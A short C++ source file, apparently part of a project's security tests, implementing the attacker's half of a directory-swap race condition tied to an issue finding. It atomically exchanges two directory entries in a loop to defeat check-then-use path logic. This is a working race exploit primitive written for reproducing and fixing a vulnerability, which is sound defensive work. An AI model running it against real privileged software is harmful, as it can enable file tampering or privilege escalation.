// SPDX-License-Identifier: Apache-2.0
// The attacker's half of the node-local swap race (issue 31, finding 1), run as the attacking
// user: exchanges two directory entries with renameat2(RENAME_EXCHANGE), as fast as it can, until
// STOP_FILE exists; then prints how many exchanges it tried and how many the kernel allowed.
//   dlx_swap_racer A B STOP_FILE
// An exchange is atomic: at every instant each name exists, pointing at one of the two
// directories, which is what defeats a check by path followed by a use by path.
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include <cstdio>

int main(int argc, char** argv) {
  if (argc != 4) {
    std::fprintf(stderr, "usage: dlx_swap_racer A B STOP_FILE\n");
    return 2;
  }
  unsigned long long tried = 0, swapped = 0;
  while (::access(argv[3], F_OK) != 0) {
    for (int i = 0; i < 1000; ++i) {
      ++tried;
      if (::renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) ++swapped;
    }
  }
  std::printf("tried %llu swapped %llu\n", tried, swapped);
  return 0;
}
